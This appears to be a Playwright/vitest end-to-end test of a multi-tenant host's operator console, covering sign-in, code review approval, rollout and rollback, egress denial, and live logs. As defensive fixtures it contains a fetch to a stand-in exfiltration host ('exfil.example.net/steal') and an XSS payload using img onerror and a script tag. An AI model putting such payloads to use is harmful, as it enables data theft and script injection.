/**
 * The operator's console end to end in a real browser (issue 14): playwright-core driving
 * Debian's chromium (headless, a fresh profile) against isohost on loopback with the two
 * default tenants (business-unit-a shared, partner-acme in sandbox processes with review),
 * the console on an ops listener of its own. Signs in through the `#token=` link, sees both
 * tenants, approves a pending partner version (and the partner's caller gets it), moves a
 * rollout and rolls back, sees an egress denial and a live log line, and checks that no
 * request left loopback. Screenshots of each page go to test-output/console/; the time to
 * the first rendered page is measured in the browser (performance marks) and printed.
 *
 * Skipped, with the reason printed, when /usr/bin/chromium is missing (`.ci/run` installs
 * the Debian package `chromium`).
 */
import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEFAULT_CONFIG } from '../../src/config/default.ts';
import { bundleOf } from '../helpers/bundle.ts';
import { startConsoleServer, type ConsoleServer } from './console-server.ts';

declare const fc: any;

const CHROMIUM = '/usr/bin/chromium';
const OUT = join(import.meta.dirname, '..', '..', 'test-output', 'console');
const haveChromium = existsSync(CHROMIUM);
if (!haveChromium) console.log(`console e2e skipped: ${CHROMIUM} is missing (apt-get install -y chromium)`);

const notes = bundleOf({
  add: async (args: { text: string }) => {
    await fc.storage.set(`n:${Date.now()}`, args.text);
    fc.log.info('note added');
    return true;
  },
  boom: () => {
    throw new Error('boom');
  },
  reach: async () => {
    try {
      await fc.fetch('https://exfil.example.net/steal');
      return 'fetched';
    } catch (e: any) {
      return e.code;
    }
  },
});
declare const RELEASE: number;
/** Markup in a partner's source must stay text in the review page (it is shown, never parsed or run). */
const MARKUP = `'<img src=x onerror="window.pwned=1"></pre><script>window.pwned=2</script>'`;
const quote = (n: number) => bundleOf({ version: () => RELEASE }, `// partner-acme quote service, release ${n}\nconst RELEASE = ${n};\nexport const banner = ${MARKUP};`);

type Page = import('playwright-core').Page;
type Context = import('playwright-core').BrowserContext;

let s: ConsoleServer;
let context: Context;
let page: Page;
let profile: string;
const requested: string[] = [];
const versions: string[] = [];

async function call(tenant: string, app: string, method: string, args: unknown = null, sub = 'alice') {
  const res = await s.api('POST', `/v1/tenants/${tenant}/apps/${app}/calls/${method}`, { token: await s.token(tenant, sub, 'apps:call'), body: args });
  return res.json();
}

async function shot(name: string) {
  await page.screenshot({ path: join(OUT, `${name}.png`), fullPage: true });
}

describe.skipIf(!haveChromium)('the console in chromium', () => {
  beforeAll(async () => {
    const tenants = DEFAULT_CONFIG.tenants.map((t) => structuredClone({ ...t, ...(t.id === 'partner-acme' ? { review: 'required' } : {}) })) as unknown as Record<string, unknown>[];
    s = await startConsoleServer(tenants, { ops: true });
    const deployed = await s.api('PUT', '/v1/tenants/business-unit-a/apps/notes', { token: await s.token('business-unit-a'), body: notes });
    expect(deployed.status, deployed.text).toBe(201);
    for (let i = 0; i < 5; i++) expect(await call('business-unit-a', 'notes', 'add', { text: `note ${i}` })).toEqual({ result: true });
    expect((await call('business-unit-a', 'notes', 'boom')).error.code).toBe('miniapp_error');
    const up = await s.api('PUT', '/v1/tenants/partner-acme/apps/quote', { token: await s.token('partner-acme', 'acme-dev'), body: quote(1) });
    expect(up.status, up.text).toBe(201);
    versions.push(up.json().version);

    await mkdir(OUT, { recursive: true });
    profile = await mkdtemp(join(tmpdir(), 'isohost-chromium-'));
    const { chromium } = await import('playwright-core');
    context = await chromium.launchPersistentContext(profile, {
      executablePath: CHROMIUM,
      headless: true,
      args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'],
      viewport: { width: 1280, height: 900 },
    });
    context.on('request', (r) => void requested.push(r.url()));
    page = context.pages()[0] ?? (await context.newPage());
  }, 60_000);

  afterAll(async () => {
    await context?.close();
    await s?.dispose();
    if (profile !== undefined) await rm(profile, { recursive: true, force: true });
  });

  it('should sign in from the link isohost console prints and show both default tenants', async () => {
    const token = await s.operatorToken();
    await page.goto(`${s.adminUrl}/console/#token=${token}`);
    await page.locator('tr[data-tenant="partner-acme"]').waitFor();
    const rendered = await page.evaluate(() => performance.getEntriesByName('isohost-page-rendered')[0]?.startTime ?? -1);
    expect(rendered).toBeGreaterThan(0);
    // Once more in the same browser: the cold number includes the browser's own first-navigation start-up.
    await page.reload();
    await page.locator('tr[data-tenant="partner-acme"]').waitFor();
    const warm = await page.evaluate(() => performance.getEntriesByName('isohost-page-rendered')[0]?.startTime ?? -1);
    // Where the time goes on the reload: the document, the modules (DOMContentLoaded waits for them), the API call.
    const phases = await page.evaluate(() => {
      // Typed loosely: the test's TypeScript has Node's performance types, not the DOM's.
      const nav = performance.getEntriesByType('navigation' as 'mark')[0] as unknown as { responseEnd: number; domContentLoadedEventEnd: number };
      const api = performance.getEntriesByType('resource').find((e) => e.name.endsWith('/v1/admin/tenants')) as unknown as { startTime: number; responseEnd: number } | undefined;
      return { document: nav.responseEnd, modules: nav.domContentLoadedEventEnd, apiStart: api?.startTime ?? -1, apiEnd: api?.responseEnd ?? -1 };
    });
    console.log(
      `console first page (Tenants) rendered ${rendered.toFixed(1)} ms after navigation start in a fresh profile, ${warm.toFixed(1)} ms on reload ` +
        `(reload: document ${phases.document.toFixed(1)} ms, modules loaded ${phases.modules.toFixed(1)} ms, GET /v1/admin/tenants ${phases.apiStart.toFixed(1)}–${phases.apiEnd.toFixed(1)} ms; loopback, headless chromium)`,
    );
    // The token left the address bar and lives in sessionStorage only.
    expect(page.url()).not.toContain(token);
    expect(await page.evaluate(() => sessionStorage.getItem('isohost.console.token'))).toBe(token);
    const bu = page.locator('tr[data-tenant="business-unit-a"]');
    await expect.poll(() => bu.innerText()).toContain('shared');
    expect(await bu.innerText()).toMatch(/6 \/\s*1/); // 6 calls, 1 error in the last 5 minutes
    expect(await page.locator('tr[data-tenant="partner-acme"]').innerText()).toContain('process');
    expect(await page.locator('svg.chart').count()).toBeGreaterThanOrEqual(4);
    await shot('tenants');
  });

  it('should show the pending partner version\'s source, approve it, and the partner\'s caller then gets it', async () => {
    expect((await call('partner-acme', 'quote', 'version')).error.code).toBe('not_found');
    await page.getByRole('link', { name: 'Review queue' }).click();
    const row = page.locator(`tr[data-version="${versions[0]}"]`);
    await row.waitFor();
    await row.getByRole('button', { name: 'View source' }).click();
    await page.locator('pre.source').waitFor();
    expect(await page.locator('pre.source').innerText()).toContain('partner-acme quote service, release 1');
    expect(await page.locator('pre.source .tok-kw').count()).toBeGreaterThan(0);
    expect(await page.locator('pre.source').innerText()).toContain('<script>window.pwned=2</script>');
    expect(await page.locator('#source-viewer img, #source-viewer script').count()).toBe(0);
    expect(await page.evaluate('window.pwned')).toBeUndefined();
    await shot('review');
    await row.getByRole('button', { name: 'Approve' }).click();
    await page.getByText('Nothing waits for review.').waitFor();
    expect(await call('partner-acme', 'quote', 'version')).toEqual({ result: 1 });
  });

  it('should move the rollout to a new version and roll it back in one click', async () => {
    const up = await s.api('PUT', '/v1/tenants/partner-acme/apps/quote', { token: await s.token('partner-acme', 'acme-dev'), body: quote(2) });
    versions.push(up.json().version);
    await s.api('POST', `/v1/admin/tenants/partner-acme/apps/quote/versions/${versions[1]}/approve`, { token: await s.operatorToken('apps:review'), body: {}, base: s.adminUrl });
    await page.goto(`${s.adminUrl}/console/#/app/partner-acme/quote`);
    await page.getByLabel(`${versions[0]} %`).fill('0');
    await page.getByLabel(`${versions[1]} %`).fill('100');
    await page.getByRole('button', { name: 'Apply rollout' }).click();
    await expect.poll(() => page.locator(`tr[data-version="${versions[1]}"]`).innerText()).toContain('100 %');
    expect(await call('partner-acme', 'quote', 'version', null, 'bob')).toEqual({ result: 2 });
    await shot('app');
    await page.getByRole('button', { name: /Roll back/ }).click();
    await expect.poll(() => page.locator(`tr[data-version="${versions[0]}"]`).innerText()).toContain('100 %');
    expect(await call('partner-acme', 'quote', 'version', null, 'bob')).toEqual({ result: 1 });
  });

  it('should show an app\'s recent error with its source line', async () => {
    await page.goto(`${s.adminUrl}/console/#/app/business-unit-a/notes`);
    const errors = page.locator('table', { hasText: 'Source line' });
    await errors.waitFor();
    expect(await errors.innerText()).toMatch(/throw new Error\(["']boom["']\)/);
    await shot('app-errors');
  });

  it('should show an egress denial as it happens', async () => {
    await page.getByRole('link', { name: 'Egress' }).click();
    await page.getByText('No decisions yet.').waitFor();
    expect(await call('business-unit-a', 'notes', 'reach')).toEqual({ result: 'egress_denied' });
    const row = page.locator('tr', { hasText: 'exfil.example.net' });
    await row.waitFor({ timeout: 10_000 });
    expect(await row.innerText()).toContain('deny');
    await shot('egress');
  });

  it('should tail a tenant\'s log stream live', async () => {
    await page.goto(`${s.adminUrl}/console/#/logs/business-unit-a/notes`);
    await page.locator('#logs-state', { hasText: 'live' }).waitFor();
    const before = await page.locator('#log-lines li').count();
    expect(await call('business-unit-a', 'notes', 'add', { text: 'tail me' })).toEqual({ result: true });
    await expect.poll(() => page.locator('#log-lines li').count()).toBeGreaterThan(before);
    expect(await page.locator('#log-lines').innerText()).toContain('→ ok');
    expect(await page.locator('#log-lines').innerText()).not.toContain('tail me');
    await shot('logs');
  });

  it('should read at tablet width and in the dark', async () => {
    await page.setViewportSize({ width: 820, height: 1100 });
    await page.emulateMedia({ colorScheme: 'dark' });
    await page.goto(`${s.adminUrl}/console/#/tenants`);
    await page.reload();
    await page.locator('tr[data-tenant="partner-acme"]').waitFor();
    const bg = await page.evaluate('getComputedStyle(document.body).backgroundColor');
    expect(bg).toBe('rgb(15, 18, 23)');
    await shot('tenants-tablet-dark');
    // Keyboard: the skip link is the first stop and moves focus to the content.
    await page.keyboard.press('Tab');
    expect(await page.evaluate('document.activeElement?.textContent')).toBe('Skip to content');
  });

  it('should sign out, refuse a tenant\'s token pasted on the form, and sign in with an operator\'s', async () => {
    await page.setViewportSize({ width: 1280, height: 900 });
    await page.emulateMedia({ colorScheme: 'light' });
    await page.getByRole('button', { name: 'Sign out' }).click();
    expect(await page.evaluate(() => sessionStorage.getItem('isohost.console.token'))).toBeNull();
    await page.getByLabel('Operator token').fill(await s.token('partner-acme', 'acme-dev', 'apps:deploy console:read apps:review'));
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.locator('#status', { hasText: 'Sign-in refused' }).waitFor();
    expect(await page.locator('#signin').isVisible()).toBe(true);
    await shot('signin-refused');
    await page.getByLabel('Operator token').fill(await s.operatorToken('console:read'));
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.locator('tr[data-tenant="business-unit-a"]').waitFor();
  });

  it('should never have requested anything outside loopback', () => {
    expect(requested.length).toBeGreaterThan(10);
    const outside = requested.filter((u) => !/^(https?:\/\/(127\.0\.0\.1|localhost)(:\d+)?\/|data:|about:)/.test(u));
    expect(outside).toEqual([]);
  });
});
